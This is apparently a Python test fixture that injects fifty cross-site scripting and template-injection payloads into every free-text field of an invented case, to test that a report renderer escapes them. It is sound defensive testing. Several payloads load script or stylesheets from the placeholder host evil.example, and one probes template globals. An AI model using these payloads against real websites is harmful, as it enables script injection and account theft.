"""A case in which every word that a report or a person can fill would like to be script."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from crossbearing.model import (
    Act,
    Assessment,
    Decision,
    Evidence,
    PlaceFix,
    Skipped,
    Target,
    TimeFix,
)
from tests import factory
from tests.report.sarn import sarn

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onload=alert(1) `",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% for x in () %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "<div hx-get=/status hx-trigger=load hx-on:htmx:load=alert(1)>",
    "<div data-hx-get=/verification data-hx-trigger=load>",
    "&lt;script&gt;alert(1)&lt;/script&gt;\u202e<script>\x00alert(1)</script>",
)
"""Fifty, each of which has run somewhere."""

FIXED = frozenset(
    [
        "id",
        "document",
        "documents",
        "capture",
        "statement",
        "statements",
        "origin",
        "origins",
        "mentions",
        "source",
        "target",
        "text",
        "text_sha256",
        "sha256",
        "value",
        "values",
        "variable",
        "party",
        "controller",
        "injured",
        "accused",
        "reading",
        "readings",
        "argument",
        "parent",
        "about",
        "by",
        "given",
        "taker",
        "giver",
        "from",
        "to",
        "claim",
        "search",
        "sought",
        "actor",
        "role",
        "means",
        "cause",
        "day",
        "start",
        "end",
        "at",
        "when",
        "language",
        "leading",
        "latitude",
        "longitude",
        "hypothesis",
        "extractor",
        "controllers",
        "factor",
        "speakers",
        "affiliations",
        "principals",
        "opponents",
        "allies",
        "incapable",
        "one",
        "other",
        "made_by",
        "decoder",
        "kind",
        "status",
        "stance",
        "outcome",
        "type",
        "stage",
        "band",
        "phia",
        "alike",
        "published",
        "zone",
    ]
)
"""Fields that name another noun, a date, or one of the words of a closed list."""


def poison(noun: Any, payload: str, name: str = "") -> Any:
    """The noun with the payload behind every word of it that could be anything."""
    if isinstance(noun, str) and not isinstance(noun, Enum):
        return noun if name in FIXED else f"{noun} {payload}"
    if is_dataclass(noun) and not isinstance(noun, type):
        changed = {
            each.name: poison(getattr(noun, each.name), payload, each.name)
            for each in fields(noun)
        }
        return replace(noun, **changed)
    if isinstance(noun, tuple):
        return tuple(poison(each, payload, name) for each in noun)
    return noun


def poisoned(payload: str) -> Assessment:
    """The rich invented case with the payload everywhere, one more report that consists of it,
    and decisions signed by it."""
    case: Assessment = poison(sarn(), payload)
    report = factory.doc(
        f"The ministry said {payload} hit the depot. {payload}\n\n{payload}",
        path=f"{payload.replace('/', '')}.txt",
        title=payload,
        publisher=payload,
        byline=payload,
        url=payload,
        published="2031-03-09",
    )
    words = f"{payload} hit the depot"
    said = factory.said(
        report,
        words,
        source="The ministry",
        cue="said",
        voice=factory.voice(payload, affiliation=payload, reason=payload),
    )
    first = case.documents[0]
    copy = (
        factory.copied(replace(first, text=first.text), report, "depot", reason=payload)
        if "depot" in first.text
        else None
    )
    reading = factory.reading(
        2.5,
        because=payload,
        passages=(factory.passage(report, words),),
        gatekeeper=payload,
        rival=payload,
    )
    target = Target(
        text_sha256=report.capture,
        spans=(factory.span(report, "The ministry"),),
        role="statement",
    )
    decision = Decision(
        id="k-poison",
        act=Act.reject,
        target=target,
        who=payload,
        when="2031-05-04T10:00:00+00:00",
        why=payload,
    )
    return replace(
        case,
        documents=(*case.documents, report),
        annotations=(
            *case.annotations,
            factory.notes(
                report,
                said,
                mentions=(factory.mention(report, words),),
                arguments=(factory.argument(report, words),),
            ),
        ),
        trace=replace(case.trace, copies=(*case.trace.copies, *((copy,) if copy else ()))),
        verdict=replace(
            case.verdict,
            readings=(*case.verdict.readings, reading),
            notes=(payload,),
            reason=payload,
        ),
        decisions=(*case.decisions, decision),
        skipped=(*case.skipped, Skipped(path=payload, reason=payload)),
        evidence=(*case.evidence, _fixed(payload)),
    )


def _fixed(payload: str) -> Evidence:
    """An item with a place and a time, as another machine's bag may hold it."""
    return factory.evidence(
        payload,
        kind="place",
        method=payload,
        place=PlaceFix(latitude=33.3, longitude=44.4, radius=50.0),
        time=TimeFix(
            earliest="2031-03-04T14:05:00+03:00",
            latest="2031-03-04T14:25:00+03:00",
            zone=payload,
        ),
    )
